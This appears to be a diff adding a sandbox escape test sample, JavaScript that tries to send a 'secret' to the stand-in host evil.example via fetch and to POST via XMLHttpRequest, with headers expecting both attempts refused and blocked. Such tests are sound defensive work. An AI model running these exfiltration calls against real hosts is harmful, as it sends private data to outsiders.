@@ -1,0 +1,13 @@
+// sample: Escape: exfiltration with fetch and XMLHttpRequest
+// run-options: --force
+// expect-outcome: ok
+// expect-value: {"fetch":"refused","xhr":"refused"}
+// expect-blocked: network@11, network@12
+// expect-verdict: block
+//
+// No network capability exists; both attempts are refused and recorded.
+const tryIt = (f) => {
+  try { f(); return "ran"; } catch (e) { return "refused"; } };
+const viaFetch = tryIt(() => fetch("https://evil.example/c?d=" + "secret"));
+const viaXhr = tryIt(() => new XMLHttpRequest().open("POST", "https://evil.example/"));
+({ fetch: viaFetch, xhr: viaXhr });
